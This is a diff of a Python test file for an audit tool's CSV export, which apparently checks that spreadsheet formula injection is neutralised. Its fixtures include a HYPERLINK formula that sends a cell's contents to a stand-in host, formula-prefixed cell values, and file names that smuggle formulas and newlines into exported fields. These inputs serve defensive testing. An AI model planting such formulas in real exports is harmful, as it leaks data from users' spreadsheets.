@@ -17,7 +17,8 @@ import pytest
 
 from audit.exports import csv as tables
 from tests.commanded import Run, commanded
-from tests.drawn import Pen, drawn
+from tests.drawn import drawn
+from tests.hostile_form import form
 from tests.hostile_raw import ACCUSED, PASSED, fixture
 
 LINK = '=HYPERLINK("http://x/?"&A1)'
@@ -26,7 +27,6 @@ QUOTED = '引"号，逗,号；'
 WIDE = "＝1+1"
 AT = "@SUM(1+1)"
 DANGEROUS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r")
-XS = [40.0, 90.0, 150.0, 230.0, 310.0, 390.0, 440.0, 490.0, 555.0]
 ROWS = [
     ["项目名称", "", LINK, "", "", "", "", ""],
     ["主管部门", "", COMMAND, "", "实施单位", QUOTED, "", ""],
@@ -38,22 +38,6 @@ ROWS = [
     ["效益指标", "社会效益指标", "=1+1", "≥90%", "50%", "20", "20", ""],
     ["总分", "", "", "", "", "100", "99", ""],
 ]
-YS = [100.0 + 40 * k for k in range(len(ROWS) + 1)]
-
-
-def form(pen: Pen) -> None:
-    pen.text(200, 70, "项目支出绩效自评表", 16)
-    pen.text(250, 90, "（2021年度）")
-    for y in YS:
-        pen.line(XS[0], y, XS[-1], y)
-    for k, row in enumerate(ROWS):
-        for x, text in zip(XS, row, strict=False):
-            whole = k < 2 and not text
-            if not whole:
-                pen.line(x, YS[k], x, YS[k + 1])
-        for x, text in zip(XS, row, strict=False):
-            pen.text(x + 2, YS[k] + 24, text, 6, "Helvetica" if text.isascii() else "STSong-Light")
-    pen.line(XS[-1], YS[0], XS[-1], YS[-1])
 
 
 @cache
@@ -61,7 +45,7 @@ def audited() -> tuple[Path, Run]:
     """The folder that was audited (gone by now), and the run."""
     folder = Path(mkdtemp(prefix="meant-"))
     try:
-        drawn(folder / "=1+1.pdf", form)
+        drawn(folder / "=1+1.pdf", form(ROWS))
         shutil.copy(fixture(ACCUSED), folder / '@SUM(A1),".pdf')
         shutil.copy(fixture(PASSED), folder / "-2+3\n.pdf")
         (folder / "+1.pdf").write_bytes(b"")
